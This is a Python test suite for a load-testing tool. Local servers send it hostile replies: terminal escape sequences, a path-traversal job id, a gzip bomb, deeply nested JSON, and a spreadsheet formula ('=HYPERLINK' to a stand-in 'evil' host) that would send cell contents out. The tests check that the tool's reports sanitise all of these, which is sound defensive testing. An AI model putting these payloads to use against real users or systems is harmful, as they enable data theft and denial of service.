"""Targets that send anything at all: every run ends in a report that can be read, and in no surprise for its reader."""

import contextlib
import csv
import dataclasses
import gzip
import json
import resource
from collections.abc import AsyncIterator, Awaitable, Callable
from typing import Any

import pytest
from aiohttp import web
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from llmpod.loadtest import intake
from llmpod.loadtest.environ import Secret
from llmpod.loadtest.model.job_record import Job
from llmpod.loadtest.report.csv_export import COLUMNS, guarded
from tests.loadtest.conftest import Result, command
from tests.loadtest.scripted import JobScript, Script, scripted

pytestmark = pytest.mark.process

LoadTest = Callable[..., Awaitable[Result]]
Answer = Callable[[web.Request], Awaitable[web.StreamResponse]]
ON_DISK: list[Result] = []
SHORT = ["-c", "1", "--runs", "2", "--warmup-requests", "0", "--timeout", "400ms", "--health-interval", "100ms"]
MODES = ["runsync", "run", "stream", "openai"]


@contextlib.asynccontextmanager
async def answering(answer: Answer) -> AsyncIterator[tuple[str, list[str]]]:
    """A server that gives every request to `answer`; yields its URL and the paths that were asked for."""
    paths: list[str] = []

    async def handle(request: web.Request) -> web.StreamResponse:
        paths.append(request.raw_path)
        return await answer(request)

    app = web.Application(client_max_size=2**26)
    app.router.add_route("*", "/{path:.*}", handle)
    runner = web.AppRunner(app, access_log=None, shutdown_timeout=0.1)
    await runner.setup()
    await web.TCPSite(runner, "127.0.0.1", 0).start()
    try:
        yield f"http://127.0.0.1:{runner.addresses[0][1]}/v2/odd", paths
    finally:
        await runner.cleanup()


def saying(body: bytes | str, status: int = 200, kind: str = "application/json", **headers: str) -> Answer:
    raw = body if isinstance(body, bytes) else body.encode("utf-8", "surrogatepass")

    async def answer(_request: web.Request) -> web.StreamResponse:
        return web.Response(body=raw, status=status, headers={"Content-Type": kind, **headers})

    return answer


def check_readable(result: Result) -> None:
    """What a person opens after a run: every file is there and whole, the terminal's lines hold no control character,
    no cell is a formula, and nothing was blamed on this tool."""
    page = (result.directory / "report.html").read_text(encoding="utf-8")
    assert page.endswith("</html>\n")
    assert result.recorded.unreadable == 0
    assert "internal" not in {job.error_class for job in result.recorded.jobs}
    assert "run broke off" not in str(result.report["notes"])
    with (result.directory / "requests.csv").open(encoding="utf-8", newline="") as file:
        rows = list(csv.reader(file))
    assert rows[0] == COLUMNS
    assert len(rows) == 1 + len(result.recorded.jobs)
    for row in rows[1:]:
        for cell in row:
            with contextlib.suppress(ValueError):
                float(cell)
                continue
            assert not cell.lstrip().startswith(("=", "+", "-", "@"))
    shown = command("report", str(result.directory))
    assert shown.code == result.code
    assert [char for char in shown.out if not char.isprintable() and char != "\n"] == []


ESC, BELL = "\x1b]0;owned\x07", "\x9b2J"
JOB = {"id": "job-1", "status": "COMPLETED", "delayTime": 5, "executionTime": 7, "output": "hi", "workerId": "w"}

# ruff: noqa: E501 - a table is read line by line
TARGETS: dict[str, Answer] = {
    "half an emoji": saying(json.dumps({**JOB, "status": "FAILED", "error": "cut \ud83d", "workerId": "w\udc00"})),
    "half an emoji, raw": saying(b'{"id":"j","status":"FAILED","error":"cut \xed\xa0\xbd"}'),
    "400 digits": saying(json.dumps({**JOB, "output": {"choices": [{"text": "x"}], "usage": {"output": 10**400}}})),
    "5000 digits": saying(b'{"id":"j","status":"COMPLETED","output":"x","delayTime":' + b"9" * 5000 + b"}"),
    "infinite times": saying('{"id":"j","status":"COMPLETED","output":"x","delayTime":1e999,"executionTime":NaN}'),
    "negative times": saying(json.dumps({**JOB, "delayTime": -5, "executionTime": -1e300})),
    "true as a number": saying(json.dumps({**JOB, "delayTime": True, "retries": True, "output": {"usage": {"output": True}}})),
    "escapes": saying(json.dumps({**JOB, "status": "FAILED", "error": ESC + BELL, "workerId": ESC, "output": {"finish_reason": BELL}})),
    "escapes in HTML": saying(f"<html>{ESC}{BELL}</html>", kind="text/html"),
    "escapes in a refusal": saying(json.dumps({"error": ESC, "detail": BELL}), status=500),
    "formulas": saying(json.dumps({**JOB, "status": '=HYPERLINK("http://evil/?"&A1,"x")', "workerId": "\t=1+1", "id": "@x"})),
    "deep JSON": saying("[" * 100_000),
    "deep JSON, closed": saying("[" * 500 + "]" * 500),
    "deep output": saying(json.dumps({**JOB, "output": None}).replace("null", "[" * 900 + "]" * 900)),
    "an id that is a path": saying(json.dumps({"id": "../../stolen/status/x?y#z", "status": "IN_QUEUE"})),
    "an id that is no text": saying(json.dumps({"id": {"a": 1}, "status": "IN_QUEUE"})),
    "an id as long as a book": saying(json.dumps({"id": "x" * 100_000, "status": "IN_QUEUE"})),
    "an error as long as a book": saying(json.dumps({**JOB, "status": "FAILED", "error": "x" * 10_000_000})),
    "broken events": saying(f"data: {ESC}\n\ndata: {{\n\n", kind="text/event-stream"),
    "not UTF-8": saying(bytes(range(256))),
    "a wrong encoding": saying(b"no gzip", **{"Content-Encoding": "gzip"}),
    "a large reply": saying(b'"' + b"x" * (21 * 2**20) + b'"'),
    "a gzip bomb": saying(gzip.compress(b'"' + bytes(200 * 2**20) + b'"', 1), **{"Content-Encoding": "gzip"}),
    "a redirect": saying("", status=307, Location="http://127.0.0.1:9/v2/odd/run"),
    "an odd Retry-After": saying("{}", status=429, **{"Retry-After": "1e999"}),
    "an empty reply": saying(""),
    "a list": saying("[1, 2]"),
}  # fmt: skip


@pytest.mark.parametrize("name", TARGETS)
async def test_a_run_against_an_odd_target_ends_in_a_readable_report(load_test: LoadTest, name: str) -> None:
    async with answering(TARGETS[name]) as (url, paths):
        for mode in MODES:
            result = await load_test(url, "--mode", mode, *SHORT)
            check_readable(result)
            assert result.recorded.jobs
        assert all(path.startswith("/v2/odd/") for path in paths)
        assert not any("stolen" in path for path in paths)


texts = st.text(max_size=20) | st.sampled_from([ESC, BELL, "\ud83d", "=1+1", "\t@x", "-", "<script>", "x" * 5000])
numbers = st.floats() | st.integers() | st.booleans() | st.none() | st.just(10**400)
values = st.recursive(texts | numbers, lambda inner: st.lists(inner, max_size=3) | st.dictionaries(
    texts | st.sampled_from(["error", "usage", "output", "choices", "text", "type", "code", "message", "finish_reason",
                             "validation", "limits", "intent", "blocked", "input", "delta", "content"]), inner, max_size=4),
    max_leaves=12)  # fmt: skip
states = st.sampled_from(["COMPLETED", "FAILED", "IN_QUEUE", "IN_PROGRESS", "TIMED_OUT", "CANCELLED"]) | texts
replies = st.fixed_dictionaries(
    {"id": texts | values, "status": states | values},
    optional={
        "output": values, "error": values, "delayTime": numbers | values, "executionTime": numbers | values,
        "workerId": texts | values, "retries": numbers, "stream": st.lists(values, max_size=3) | values,
        "workers": st.dictionaries(st.sampled_from(["idle", "running", "initializing"]), numbers) | values,
        "jobs": st.dictionaries(st.sampled_from(["inQueue", "inProgress"]), numbers) | values,
    },
)  # fmt: skip
bodies = replies.map(lambda body: json.dumps(body).encode()) | st.binary(max_size=60) | values.map(
    lambda value: json.dumps(value).encode()) | st.lists(values, max_size=3).map(
    lambda events: b"".join(b"data: " + json.dumps(event).encode() + b"\n\n" for event in events))  # fmt: skip


@settings(max_examples=25, suppress_health_check=list(HealthCheck))
@given(
    mode=st.sampled_from(MODES),
    bodies=st.lists(bodies, min_size=1, max_size=4),
    status=st.sampled_from([200, 200, 200, 400, 429, 500]),
    kind=st.sampled_from(["application/json", "text/event-stream", "text/html"]),
)
async def test_any_replies_at_all_end_in_a_readable_report(
    load_test: LoadTest, mode: str, bodies: list[bytes], status: int, kind: str
) -> None:
    asked = 0

    async def answer(request: web.Request) -> web.StreamResponse:
        nonlocal asked
        asked += 1
        return await saying(bodies[asked % len(bodies)], status, kind)(request)

    async with answering(answer) as (url, _):
        check_readable(await load_test(url, "--mode", mode, *SHORT))


records_on_disk = st.dictionaries(
    st.sampled_from([field.name for field in dataclasses.fields(Job)]), values, max_size=6
)


@settings(max_examples=60, suppress_health_check=list(HealthCheck))
@given(st.lists(records_on_disk | values, min_size=1, max_size=4))
async def test_any_lines_on_disk_are_reported_or_counted_as_unreadable(
    load_test: LoadTest, lines: list[dict[str, Any]]
) -> None:
    if not ON_DISK:
        async with scripted() as server:
            ON_DISK.append(await load_test(server.url, "-c", "1", "--runs", "3"))
    path = ON_DISK[0].directory / "requests.jsonl"
    good = path.read_bytes().splitlines()[:3]
    mixed = [{**json.loads(good[0]), **line} if isinstance(line, dict) else line for line in lines]
    path.write_bytes(b"\n".join([*good, *(json.dumps(line).encode() for line in mixed)]) + b"\n")
    shown = command("report", str(ON_DISK[0].directory))
    assert "internal error" not in shown.err
    assert shown.code in (0, 1, 5)
    assert [char for char in shown.out if not char.isprintable() and char != "\n"] == []


@pytest.mark.parametrize("shape", ["body", "one event", "one line", "comments"])
async def test_what_never_ends_is_not_kept(load_test: LoadTest, shape: str) -> None:
    piece = {
        "body": b" " * 2**16,
        "one event": b"data: x\n" * 2**13,
        "one line": b"x" * 2**16,
        "comments": b":\n\n" * 2**14,
    }
    kind = "application/json" if shape == "body" else "text/event-stream"

    async def endless(request: web.Request) -> web.StreamResponse:
        response = web.StreamResponse(headers={"Content-Type": kind})
        await response.prepare(request)
        with contextlib.suppress(ConnectionError):
            while True:
                await response.write(piece[shape])
        return response

    limit = "1s" if shape == "comments" else "20s"
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    async with answering(endless) as (url, _):
        result = await load_test(url, "--mode", "openai", *SHORT, "--timeout", limit, "--health-interval", "0")
    check_readable(result)
    grown_mib = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) / 1024
    assert grown_mib < 150
    wanted = "client_timeout" if shape == "comments" else "bad_reply"
    assert {job.error_class for job in result.recorded.jobs} == {wanted}


async def test_a_key_that_a_reply_spells_with_escapes_is_in_no_file(load_test: LoadTest) -> None:
    key = "rpa_" + "k3y" * 12
    spelt = "".join(f"\\u{ord(char):04x}" for char in key)
    body = f'{{"id": "j", "status": "FAILED", "error": "who is {spelt}?", "workerId": "{spelt}"}}'
    events = [(0.0, f'data: {{"error": {{"message": "{spelt}"}}}}\n\n'.encode())]
    async with answering(saying(body)) as (url, _):
        first = await load_test(url, *SHORT, key=key)
    async with scripted(Script(sse=lambda _: events)) as server:
        second = await load_test(server.url, "--mode", "openai", *SHORT, key=key)
    for result in (first, second):
        assert "[api key]" in str(result.measured[0].error)
        for path in result.directory.iterdir():
            assert key[:6] not in path.read_text()


async def test_the_health_watch_outlives_whatever_health_says(load_test: LoadTest) -> None:
    said = iter(
        ["[" * 100_000, '{"workers": {"idle": 1e999}}', "\ud83d".encode("utf-8", "surrogatepass").decode("latin-1")]
    )

    def refuse(op: str, _number: int) -> Any:
        return (200, text, {}) if op == "health" and (text := next(said, None)) is not None else None

    async with scripted(Script(job=lambda _: JobScript(exec_s=0.2), refuse=refuse)) as server:
        words = ["-c", "1", "--runs", "5", "--warmup-requests", "0", "--health-interval", "100ms"]
        result = await load_test(server.url, *words)
    assert len(result.recorded.health) > 3
    assert any("/health gave no worker counts" in note for note in result.report["notes"])


@given(st.text())
def test_no_text_is_a_formula_in_a_cell(text: str) -> None:
    cell = guarded(text)
    assert cell.lstrip()[:1] not in {"=", "+", "-", "@"} or not cell
    assert cell in (text, "'" + text)


@given(st.text() | values.map(str))
def test_a_line_is_printable_and_short(text: str) -> None:
    found = intake.line(text, 50)
    assert len(found) <= 50
    assert found.isprintable()


@given(numbers | st.text())
def test_numbers_are_finite_and_sane_or_none(value: Any) -> None:
    found = intake.number(value)
    assert found is None or (type(found) is float and 0 <= found <= intake.LONGEST_MS)
    whole = intake.count(value)
    assert whole is None or (type(whole) is int and 0 <= whole <= intake.MOST)


@given(st.text())
def test_an_id_that_is_taken_changes_no_address(text: str) -> None:
    if intake.job_id(text) is not None:
        assert intake.job_path("cancel", text).count("/") == 2
        assert not set(text) & set("/?#%\\ ")
        assert set(text) != {"."}


def test_reading_cleans_every_string_and_only_where_there_is_need() -> None:
    key = Secret("rpa_" + "0" * 20)
    value = intake.read_json(r'{"a\u001b": ["\ud83d", "\u0072pa_00000000000000000000", "\ud83d\ude00", 1]}', key.redact)
    assert value == {"a\ufffd": ["\ufffd", "[api key]", "\U0001f600", 1]}
